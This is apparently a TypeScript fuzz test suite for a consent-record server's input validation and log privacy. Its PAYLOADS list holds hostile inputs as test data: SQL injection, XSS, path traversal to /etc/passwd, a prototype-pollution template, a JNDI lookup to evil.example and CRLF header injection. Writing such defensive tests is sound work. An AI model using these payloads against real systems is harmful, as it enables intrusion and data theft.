import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import { consentRecordSchema, problemSchema } from '@placet/contract/schema';
import type { Database } from '../database/database.js';
import { testDatabase } from '../testing/database.js';
import { testRecord } from '../testing/register.js';
import { countRecords, testServer } from '../testing/server.js';

/** What attackers and mistakes put into texts; none of it may ever be repeated or logged. */
const PAYLOADS = [
  "'; drop table record; --",
  "' or '1'='1",
  '$1); delete from evidence where (true',
  '<script>alert("jean.dupont@example.com")</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '%00',
  '\u0000',
  '\ud800',
  '\u202ejean.dupont\u202c',
  '{{constructor.constructor("return process")()}}',
  '${jndi:ldap://evil.example/a}',
  'a\r\nSet-Cookie: placet=evil',
  '__proto__',
  'constructor',
  'necessary',
  'jean.dupont@example.com',
  'x'.repeat(5000),
];

const anyValue = fc.oneof(
  fc.constantFrom<unknown>(...PAYLOADS),
  fc.constantFrom<unknown>(null, true, 0, -1, 13, 14, 1e308, 2 ** 53, 0.5, [], {}, [[]], ''),
  fc.jsonValue({ maxDepth: 3 }),
  fc.string({ unit: 'binary' }),
);

/** Every place in a record where something can be put. */
const PLACES = [
  ['id'],
  ['at'],
  ['notice'],
  ['notice', 'version'],
  ['notice', 'hash'],
  ['notice', 'text'],
  ['months'],
  ['granted'],
  ['granted', '0'],
  ['denied'],
  ['denied', '0'],
  ['gesture'],
  ['gesture', 'control'],
  ['gesture', 'trusted'],
  ['regime'],
  ['language'],
  ['page'],
  ['site'],
  ['replaces'],
  ['another'],
  ['__proto__'],
];

function put(target: unknown, [key, ...rest]: readonly string[], value: unknown): void {
  if (typeof target !== 'object' || target === null || key === undefined) return;
  if (rest.length > 0) return put((target as Record<string, unknown>)[key], rest, value);
  Object.defineProperty(target, key, { value, enumerable: true, configurable: true });
}

const mutated = fc
  .array(fc.tuple(fc.constantFrom(...PLACES), anyValue), { minLength: 1, maxLength: 3 })
  .map((changes) => {
    const record = structuredClone(testRecord()) as unknown;
    for (const [place, value] of changes) put(record, place, value);
    return JSON.stringify(record);
  });

const cut = fc.nat().map((at) => {
  const text = JSON.stringify(testRecord());
  return text.slice(0, at % text.length);
});

const headers = fc.record(
  {
    'content-type': fc.constantFrom('application/json', 'text/plain', 'application/json;charset=x'),
    cookie: fc.constantFrom('placet=%', ...PAYLOADS.filter((text) => /^[\x20-\x7e]*$/.test(text))),
    'user-agent': fc.constantFrom('Mozilla jean.dupont@example.com'),
    'x-forwarded-for': fc.constantFrom('203.0.113.77', "' or 1=1"),
  },
  { requiredKeys: [] },
);

describe('Bad input', () => {
  let database: Database;
  before(async () => void (database = await testDatabase()));
  after(() => database.close());

  it('gets a 4xx problem with a code and stores nothing, or was valid; never a 500, never a word of it in the log', async () => {
    const { post, lines } = await testServer(database, {
      proxies: 1,
      evidence: { address: true, agent: true },
    });
    let stored = await countRecords(database);
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          { weight: 6, arbitrary: mutated },
          { weight: 1, arbitrary: cut },
          { weight: 1, arbitrary: fc.json() },
          { weight: 1, arbitrary: fc.string({ unit: 'binary' }) },
        ),
        headers,
        async (body, sent) => {
          const response = await post(body, sent);
          const text = await response.text();
          const count = await countRecords(database);
          if (response.status === 201) {
            assert.ok(consentRecordSchema.safeParse(JSON.parse(body)).success, body);
            stored += 1;
          } else {
            assert.ok(
              response.status >= 400 && response.status < 500,
              `${response.status} ${body}`,
            );
            const { status } = problemSchema.parse(JSON.parse(text));
            assert.equal(status, response.status);
            assert.doesNotMatch(text, /jean|dupont|script|drop table|evil/);
          }
          assert.equal(count, stored, body);
        },
      ),
      { numRuns: 1500 },
    );
    const log = JSON.stringify(lines);
    assert.ok(lines.length >= 1500);
    for (const personal of [
      /jean|dupont/i,
      /203\.0/,
      /<script/,
      /drop table/,
      /evil/,
      /soins/,
      /Mozilla/,
    ])
      assert.doesNotMatch(log, personal);
    assert.doesNotMatch(log, /"event":"failure"/);
  });

  it('is refused in bytes that are no text', async () => {
    const { post } = await testServer(database);
    const stored = await countRecords(database);
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 300 }), async (bytes) => {
        const response = await post(Uint8Array.from(bytes));
        assert.ok(response.status >= 400 && response.status < 500);
      }),
      { numRuns: 100 },
    );
    const latin1 = Buffer.from(
      JSON.stringify({ ...testRecord(), page: 'https://é.example/' }),
      'latin1',
    );
    assert.equal((await post(Uint8Array.from(latin1))).status, 400);
    assert.equal(await countRecords(database), stored);
  });

  it('logs neither the id of a decision nor that of a receipt asked for', async () => {
    const { server, post, lines } = await testServer(database);
    const record = testRecord();
    await post(record, { 'user-agent': 'Lynx' });
    await server.request(`/placet/consents/${record.id}/receipt?who=jean`);
    await server.request(`/placet/jean/dupont`);
    await server.request(`/jean`, { method: 'JEAN' });
    const log = JSON.stringify(lines);
    for (const personal of [record.id, 'jean', 'JEAN', 'Lynx', 'soins'])
      assert.ok(!log.includes(personal));
    const requests = lines.filter(({ event }) => event === 'request');
    assert.deepEqual(
      requests.map(({ method, route, status }) => [method, route, status]),
      [
        ['POST', '/consents', 201],
        ['GET', '/consents/{id}/receipt', 200],
        ['GET', '/{folder}/{file}', 404],
        ['other', 'none', 404],
      ],
    );
    for (const { ms, bytes } of requests)
      assert.ok(Number.isInteger(ms) && Number.isInteger(bytes));
  });

  it('cannot make one id two decisions, whatever else differs', async () => {
    const { server, post } = await testServer(database);
    const record = testRecord({ id: randomUUID() });
    await post(record);
    const path = `/placet/consents/${record.id}/receipt`;
    const first = await (await server.request(path)).json();
    for (const changed of [
      { granted: [], denied: ['analytics', 'marketing'] },
      { at: '2026-11-22T11:59:57.000Z' },
      { months: 12 },
      { language: 'fr' },
      { page: 'https://maison-tilleul.example/' },
      { gesture: { control: 'accept', trusted: true } },
    ]) {
      const response = await post({ ...record, ...changed });
      assert.equal(response.status, 409, JSON.stringify(changed));
    }
    const now = (await (await server.request(path)).json()) as { receipt: unknown };
    assert.deepEqual(now.receipt, (first as { receipt: unknown }).receipt);
  });
});
